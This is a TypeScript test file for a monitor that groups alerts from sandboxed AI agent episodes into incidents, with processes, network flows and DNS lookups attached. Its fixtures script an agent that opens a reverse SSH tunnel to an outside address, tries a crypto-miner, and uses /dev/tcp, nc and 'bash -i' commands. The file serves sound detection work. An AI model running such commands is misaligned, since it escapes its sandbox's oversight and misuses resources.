import { alertRowsOf } from "@ale/core";
import { describe, expect, it } from "vitest";
import { Incident } from "../src/incident.ts";
import { attemptsOf } from "../src/incident-head.ts";
import { incidentsOf } from "../src/incidents.ts";
import {
  alertOf,
  beginOf,
  entriesOf,
  logText,
  program,
  SHELL,
  SHELL_COMMAND,
  seen,
  T0,
  tunnelEpisode,
  turnOf,
} from "./recorded.ts";

const night = () => incidentsOf(entriesOf(logText(T0, tunnelEpisode())));

describe("incidents of an episode", () => {
  it("are one for each attempt, headed by what tells most", () => {
    const [tunnel, miner, ...others] = night();
    expect(others).toEqual([]);
    expect(tunnel).toMatchObject({
      episode: "ep_night",
      chunk: 1,
      rule: "tunnel-ssh",
      severity: "critical",
      signals: [{ rule: "tunnel-ssh" }, { rule: "ssh-tunnel", source: "command" }],
      what: "ssh -fN -R 2222:localhost:22 root@198.51.100.7",
    });
    expect(miner).toMatchObject({ chunk: 2, during: [3], rule: "mining-pool-name", technique: "T1496" });
  });

  it("say what led to it: what the model had read, what it wrote, and the call", () => {
    const [tunnel] = night();
    expect(tunnel).toMatchObject({
      read: { from: "bash", content: expect.stringContaining("cc -o a a.c") },
      wrote: expect.stringContaining("I open one."),
      call: { id: "call_1", arguments: { command: expect.stringContaining("ssh -fN") } },
      result: { content: "done\n", exitCode: 0 },
      responses: [{ response: "warn", rule: "tunnel-ssh" }],
      records: 3,
      lastAt: T0 + 2_090,
      termination: "submitted",
      verdict: { reward: 1, passed: 1, tests: 1 },
    });
  });

  it("say who did it: processes as a tree below the agent's shell", () => {
    const [tunnel] = night();
    expect(tunnel!.processes).toEqual([
      { pid: 4100, startedAt: T0 + 50, command: SHELL_COMMAND, depth: 0, alerted: false },
      expect.objectContaining({ pid: 4210, exe: "/usr/bin/ssh", depth: 1, alerted: true }),
    ]);
  });

  it("say what went where: one flow of all its records, and the names asked for", () => {
    const [tunnel, miner] = night();
    expect(tunnel!.flows).toEqual([
      {
        flow: "f1",
        at: T0 + 2_008.5,
        pid: 4210,
        protocol: "tcp",
        ip: "198.51.100.7",
        port: 22,
        refused: "default",
        class: "ssh",
        head: "SSH-2.0-OpenSSH_9.2p1",
        attempts: 1,
      },
    ]);
    expect(miner!.names).toEqual([{ name: "pool.minexmr.example", type: "A", allowed: false, count: 1 }]);
  });

  it("measure the delay from the first packet of what was alerted to the alert's line", () => {
    const [tunnel, miner] = night();
    expect(tunnel!.firstAt).toBe(T0 + 2_008.5);
    expect(tunnel!.delayMs).toBeCloseTo(22.75, 6);
    expect(miner!.delayMs).toBeCloseTo(40, 6);
  });

  it("rest on lines of the log, and name all of them", () => {
    const entries = entriesOf(logText(T0, tunnelEpisode()));
    const [tunnel, miner] = incidentsOf(entries);
    const types = (lines: readonly number[]) => lines.map((seq) => entries[seq]!.event.type);
    expect(types(tunnel!.lines)).toEqual([
      "episode.begin",
      "tool.result",
      "model.call",
      "tool.call",
      "telemetry",
      "telemetry",
      "telemetry",
      "telemetry",
      "alert",
      "alert",
      "response",
      "tool.result",
      "guard.totals",
      "episode.end",
      "verdict",
    ]);
    expect(types(miner!.lines).filter((type) => type === "telemetry")).toHaveLength(2);
  });

  it("are the same value after a round trip through the schema", () => {
    for (const incident of night())
      expect(Incident.parse(JSON.parse(JSON.stringify(incident)))).toEqual(incident);
  });

  it("have a name that stays when the log goes on", () => {
    const timed = tunnelEpisode();
    const early = incidentsOf(entriesOf(logText(T0, timed.slice(0, 12), false)));
    const late = night();
    expect(early.map(({ id }) => id)).toEqual([late[0]!.id]);
    expect(late[0]!.id).toMatch(/^inc_[0-9a-f]{12}$/);
    expect(new Set(late.map(({ id }) => id)).size).toBe(2);
  });

  it("are listed from the alerts alone with the same heads", () => {
    const entries = entriesOf(logText(T0, tunnelEpisode()));
    const heads = attemptsOf("ep_night", alertRowsOf("ep_night", entries)).map(({ head }) => head);
    expect(incidentsOf(entries)).toMatchObject(heads);
  });

  it("are none where there is no alert, and none of an empty log", () => {
    expect(incidentsOf([])).toEqual([]);
    expect(
      incidentsOf(
        entriesOf(
          logText(
            T0,
            tunnelEpisode().filter(([, { type }]) => type !== "alert"),
          ),
        ),
      ),
    ).toEqual([]);
  });
});

describe("one attempt", () => {
  const turn = turnOf(0, "./probe.sh", "");
  const probe = program(4400, T0 + 1_000, "./probe.sh");
  const below = {
    ...program(4401, T0 + 1_010, "nc 10.0.0.5 22"),
    lineage: [{ pid: 4400, startedAt: T0 + 1_000 }, probe.lineage[0]!],
    ancestry: ["./probe.sh", SHELL_COMMAND],
  };
  const episode = (...alerts: Parameters<typeof alertOf>[0][]) =>
    incidentsOf(
      entriesOf(
        logText(T0, [
          [0, beginOf("ep_x", T0)],
          [900, turn.says],
          [901, turn.calls],
          ...alerts.map((alert, i): [number, ReturnType<typeof alertOf>] => [1_100 + i, alertOf(alert)]),
        ]),
      ),
    );
  const base = { chunk: 0, severity: "high" } as const;

  it("is what guard says has one cause", () => {
    const cause = { evidence: { cause: "0/call_0/tunnel" } };
    expect(
      episode(
        { ...base, ...cause, rule: "a", callId: "call_0" },
        { ...base, evidence: { cause: "0/call_0/mining" }, rule: "b", callId: "call_0" },
        { ...base, ...cause, rule: "c", process: probe },
      ).map(({ signals }) => signals.map(({ rule }) => rule)),
    ).toEqual([["a", "c"], ["b"]]);
  });

  it("is one connection, whatever was alerted of it", () => {
    expect(
      episode(
        { ...base, rule: "a", evidence: { cause: "x", flow: "f7" } },
        { ...base, rule: "b", evidence: { cause: "y" } },
        { ...base, rule: "c", evidence: { cause: "y", record: { net: { flow: "f7" } } } },
      ),
    ).toHaveLength(1);
  });

  it("has the processes of its tree, and not those of another attempt of the same call", () => {
    const one = {
      ...base,
      callId: "call_0",
      evidence: { cause: "0/call_0/probing" },
      rule: "a",
      process: below,
    };
    const other = program(4500, T0 + 1_200, "./xmrig");
    const incidents = incidentsOf(
      entriesOf(
        logText(T0, [
          [0, beginOf("ep_x", T0)],
          [900, turn.says],
          [901, turn.calls],
          ...[probe, below, other].map((process, i): [number, ReturnType<typeof seen>] => [
            1_000 + i,
            seen(0, { at: T0 + 1_000 + i, kind: "process.exec", chunk: 0, callId: "call_0", process }),
          ]),
          [1_100, alertOf(one)],
          [1_101, alertOf({ ...one, rule: "b", evidence: { cause: "0/call_0/mining" }, process: other })],
        ]),
      ),
    );
    expect(incidents.map(({ processes }) => processes.map(({ pid }) => pid))).toEqual([
      [4100, 4400, 4401],
      [4100, 4500],
    ]);
  });

  it("keeps the command line of a program of which another record has the path alone", () => {
    const shell = { ...program(4600, T0 + 1_000, "bash -i"), exe: "/usr/bin/bash" };
    const incidents = incidentsOf(
      entriesOf(
        logText(T0, [
          [0, beginOf("ep_x", T0)],
          [900, turn.says],
          [901, turn.calls],
          [
            1_000,
            seen(0, { at: T0 + 1_000, kind: "process.exec", chunk: 0, callId: "call_0", process: shell }),
          ],
          [
            1_100,
            alertOf({ ...base, callId: "call_0", rule: "a", process: { ...shell, command: shell.exe } }),
          ],
        ]),
      ),
    );
    expect(incidents[0]!.processes.map(({ command }) => command)).toContain("bash -i");
  });

  it("is not the connection alone that set off a pattern over many", () => {
    expect(
      episode(
        { ...base, rule: "a", evidence: { cause: "x", flow: "f7" } },
        { ...base, rule: "b", evidence: { cause: "y", flow: "f7", correlated: { count: 15 } } },
      ),
    ).toHaveLength(2);
  });

  it("is told on one line: by its program, else by the call, else by what it was about; never by the agent's shell", () => {
    const shell = { ...SHELL, lineage: [], command: SHELL_COMMAND, shell: SHELL.pid };
    const told = episode(
      { ...base, rule: "a", callId: "c1", process: probe, evidence: { command: "x" } },
      {
        ...base,
        rule: "b",
        callId: "c2",
        process: shell,
        evidence: { command: "exec 3<>/dev/tcp/10.0.0.5/22" },
      },
      {
        ...base,
        rule: "c",
        callId: "c3",
        evidence: { cause: "0/c3", file: { path: "/home/agent/.bashrc" } },
      },
      { ...base, rule: "d", callId: "c4", process: shell, evidence: { net: { ip: "10.0.0.5", port: 22 } } },
      { ...base, rule: "e", callId: "c5", evidence: { tool: { name: "bash", command: "sh oak" } } },
    );
    expect(told.map(({ what }) => what)).toEqual([
      "./probe.sh",
      "exec 3<>/dev/tcp/10.0.0.5/22",
      "/home/agent/.bashrc",
      "10.0.0.5:22",
      "sh oak",
    ]);
  });

  it("is never a chunk's that did not cause it, in one shell that lives through all of them", () => {
    const shell = { ...SHELL, lineage: [], command: SHELL_COMMAND, shell: SHELL.pid };
    const incidents = incidentsOf(
      entriesOf(
        logText(T0, [
          [0, beginOf("ep_x", T0)],
          [
            1_000,
            seen(0, { at: T0 + 990, kind: "net.connect", chunk: 0, process: shell, net: { ip: "10.0.0.1" } }),
          ],
          [
            1_100,
            seen(1, {
              at: T0 + 1_090,
              kind: "net.connect",
              chunk: 1,
              process: shell,
              net: { ip: "10.0.0.2" },
            }),
          ],
          [1_101, alertOf({ ...base, chunk: 1, rule: "probe", process: shell, callId: "call_1" })],
        ]),
      ),
    );
    expect(incidents.map(({ flows }) => flows.map(({ ip }) => ip))).toEqual([["10.0.0.2"]]);
  });
});
